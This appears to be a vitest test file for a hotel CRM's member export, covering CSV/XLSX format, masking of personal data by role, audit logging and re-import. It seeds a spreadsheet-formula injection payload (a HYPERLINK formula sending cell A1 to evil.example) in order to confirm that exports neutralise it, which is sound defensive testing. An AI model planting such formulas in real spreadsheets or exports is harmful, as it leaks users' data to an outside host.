import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { ApiClient, latestLinkToken, signedInAs } from '../../../../test/api-client.ts';
import { createTestTenant, startTestEnv, type TestEnv, type TestTenant } from '../../../../test/harness.ts';
import { commitAndWait, download, readXlsx, uploadAndCheck } from './transfer-helpers.ts';

let env: TestEnv;
let tenant: TestTenant;
let admin: ApiClient;
let marketing: ApiClient;
let customerService: ApiClient;
let vipTag: string;
const ids: Record<string, string> = {};

const EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"點我")';

async function account(email: string, roleKey: string): Promise<ApiClient> {
  const roles = (await admin.get('/api/roles')).body.data as Array<{ id: string; builtinKey: string }>;
  await admin.post('/api/accounts', { email, displayName: roleKey, roleId: roles.find((r) => r.builtinKey === roleKey)!.id });
  await new ApiClient(env).post('/api/auth/set-password', { token: await latestLinkToken(env, email), password: 'long enough passphrase' });
  return signedInAs(env, email, 'long enough passphrase');
}

function csvRecords(bytes: Buffer): Array<Record<string, string>> {
  return parse(bytes, { bom: true, columns: true }) as Array<Record<string, string>>;
}

async function exportAs(client: ApiClient, body: Record<string, unknown>) {
  return download(client, 'POST', '/api/members/export', body);
}

beforeAll(async () => {
  env = await startTestEnv();
  await env.runtime.queue.start({ work: true });
  tenant = await createTestTenant(env);
  admin = await signedInAs(env, tenant.adminEmail, tenant.password);
  marketing = await account('mkt@hotel.example', 'marketing');
  customerService = await account('cs@hotel.example', 'customer_service');
  vipTag = (await admin.post('/api/tags', { name: 'VIP', kind: 'basic' })).body.id;
  const regular = (await admin.post('/api/tags', { name: '常客', kind: 'basic' })).body.id;
  const evil = await admin.post('/api/members', {
    lastName: EVIL_NAME, firstName: '@SUM(1+1)', mobile: '+886 912 345 678', email: 'Guest@Example.com',
    identity: { type: 'national_id', number: 'F123456702' }, gender: 'male', birthday: '1990-03-15', marketingOptIn: true,
    propertyId: tenant.propertyIds[0], notes: '-2+3 訂房備註',
  });
  ids.evil = evil.body.id;
  ids.tanaka = (await admin.post('/api/members', { lastName: 'Tanaka', firstName: 'Yuki', identity: { type: 'passport', number: 'TK1234567', passportCountry: 'JP' }, preferredLanguage: 'ja', email: 'yuki@example.jp' })).body.id;
  ids.plain = (await admin.post('/api/members', { lastName: '陳', firstName: '大文', mobile: '0911222333' })).body.id;
  await admin.post(`/api/tags/${vipTag}/members`, { memberIds: [ids.evil, ids.tanaka] });
  await admin.post(`/api/tags/${regular}/members`, { memberIds: [ids.evil] });
});
afterAll(() => env.close());

describe('member export', () => {
  it('exports CSV with a UTF-8 BOM, unmasked for an account with personal_data.unmasked, formulas neutralised', async () => {
    const response = await exportAs(admin, { audience: {}, format: 'csv' });
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(`attachment; filename="members-2026-11-22.csv"; filename*=UTF-8''${encodeURIComponent('會員匯出-2026-11-22.csv')}`);
    expect(response.headers['cache-control']).toBe('no-store');
    expect(response.bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = csvRecords(response.bytes);
    expect(rows).toHaveLength(3);
    const evil = rows.find((r) => r['Email'] === 'guest@example.com')!;
    expect(evil).toMatchObject({
      姓: `'${EVIL_NAME}`,
      名: "'@SUM(1+1)",
      手機: '+886912345678',
      '身分證／護照號碼': 'F123456702',
      證件類別: '身分證',
      性別: '男',
      生日: '1990-03-15',
      館別: 'TPE',
      接收優惠通知: '同意',
      同意來源: '後台人員',
      語言: '中文',
      'LINE 狀態': '未加入 LINE 好友',
      標籤: 'VIP、常客',
      備註: "'-2+3 訂房備註",
    });
    const tanaka = rows.find((r) => r['姓'] === 'Tanaka')!;
    expect(tanaka).toMatchObject({ '身分證／護照號碼': 'TK1234567', 護照國籍: 'JPN', 語言: '日文', 標籤: 'VIP', 性別: '未提供' });
    // No cell of the file starts a formula; only a phone number starts with a bare +.
    for (const row of parse(response.bytes, { bom: true }) as string[][]) for (const cell of row) expect(cell).not.toMatch(/^(?:[=\-@\t\r]|\+(?!\d+$))/);
  });

  it('exports XLSX masked for an account without personal_data.unmasked, every cell a string', async () => {
    const response = await exportAs(marketing, { audience: { definition: { type: 'group', op: 'and', conditions: [{ type: 'tag', tagId: vipTag }] } }, format: 'xlsx' });
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(String(response.headers['content-disposition'])).toContain(`filename*=UTF-8''${encodeURIComponent('會員匯出-2026-11-22.xlsx')}`);
    const sheet = await readXlsx(response.bytes);
    const header = sheet[0]!.map((c) => String(c.value));
    const rows = sheet.slice(1).map((cells) => Object.fromEntries(cells.map((c, i) => [header[i], c])));
    expect(rows).toHaveLength(2);
    const evil = rows.find((r) => String(r['名']!.value).includes('SUM'))!;
    expect(evil['姓']!.value).toBe(`'${EVIL_NAME}`);
    expect(evil['Email']!.value).toBe('g***@example.com');
    expect(evil['手機']!.value).toBe('+886 912***678');
    expect(evil['身分證／護照號碼']!.value).toBe('F12*****02');
    for (const cells of sheet) for (const cell of cells) expect(typeof cell.value === 'string' || cell.value === null).toBe(true);
    expect(JSON.stringify(sheet)).not.toContain('F123456702');
    expect(JSON.stringify(sheet)).not.toContain('formula');
  });

  it('chooses columns, and speaks English to English-speaking staff', async () => {
    await marketing.patch('/api/auth/me', { locale: 'en' });
    const response = await exportAs(marketing, { audience: { memberIds: [ids.plain] }, format: 'csv', columns: ['memberNo', 'lastName', 'mobile', 'gender', 'marketingOptIn'] });
    await marketing.patch('/api/auth/me', { locale: 'zh-TW' });
    expect(response.headers['content-disposition']).toContain('filename*=UTF-8\'\'members-2026-11-22.csv');
    const records = parse(response.bytes, { bom: true }) as string[][];
    expect(records).toEqual([
      ['Member no', 'Last name', 'Mobile', 'Gender', 'Marketing opt-in'],
      [expect.stringMatching(/^M\d{7}$/), '陳', '+886 911***333', 'Not given', 'Not opted in'],
    ]);
  });

  it('is refused without reports.download (客服) and writes nothing to the audit log then', async () => {
    const refused = await exportAs(customerService, { audience: {}, format: 'csv' });
    expect(refused.status).toBe(403);
    expect(refused.json().error.code).toBe('auth.forbidden');
    const invalid = await exportAs(admin, { audience: {}, format: 'pdf' });
    expect(invalid.status).toBe(400);
  });

  it('writes every export to the audit log with its size, audience and whether it was unmasked', async () => {
    const entries = (await admin.get('/api/audit-log?action=member.exported')).body.data as Array<{ actorEmail: string; details: Record<string, unknown> }>;
    expect(entries).toHaveLength(3);
    const byActor = entries.map((e) => [e.actorEmail, e.details.rows, e.details.unmasked, e.details.format]);
    expect(byActor).toEqual(expect.arrayContaining([
      [tenant.adminEmail, 3, true, 'csv'],
      ['mkt@hotel.example', 2, false, 'xlsx'],
      ['mkt@hotel.example', 1, false, 'csv'],
    ]));
    expect(entries.find((e) => e.details.format === 'xlsx')!.details.audience).toMatchObject({ definition: { type: 'group', op: 'and', conditions: [{ type: 'tag', tagId: vipTag }] } });
    expect(JSON.stringify(entries)).not.toContain('F123456702');
  });

  it('an unmasked export imports back as "unchanged" (headers, values and neutralised cells all round-trip)', async () => {
    const exported = await exportAs(admin, { audience: {}, format: 'csv' });
    const { id, checked, uploaded } = await uploadAndCheck(admin, '會員匯出-2026-11-22.csv', exported.bytes);
    expect(uploaded.suggestedMapping).toMatchObject({ memberNo: 0, lastName: 1, firstName: 2, gender: 3, birthday: 4, email: 5, mobile: 6, identity: 8, passportCountry: 9, property: 10, preferredLanguage: 11, marketingOptIn: 12, tags: 15, notes: 16 });
    expect(checked).toMatchObject({ errorRows: 0, planned: { create: 0, update: 0, unchanged: 3 } });
    expect((await commitAndWait(admin, id)).result).toEqual({ created: 0, updated: 0, unchanged: 3 });

    const xlsx = await exportAs(admin, { audience: {}, format: 'xlsx' });
    const again = await uploadAndCheck(admin, '會員匯出.xlsx', xlsx.bytes);
    expect(again.checked).toMatchObject({ errorRows: 0, planned: { create: 0, update: 0, unchanged: 3 } });
  });

  it('a masked export cannot overwrite real data when imported back', async () => {
    const masked = await exportAs(marketing, { audience: {}, format: 'csv' });
    const { id, checked } = await uploadAndCheck(admin, 'masked.csv', masked.bytes);
    expect(checked.planned.update).toBe(0);
    const errors = (await admin.get(`/api/member-imports/${id}/rows?action=error`)).body.data as Array<{ errors: Array<{ message: string }> }>;
    expect(errors.length).toBeGreaterThan(0);
    expect(errors.flatMap((r) => r.errors.map((e) => e.message))).toContain('這是遮罩後的資料（含 ***），請使用完整資料。');
  });
});
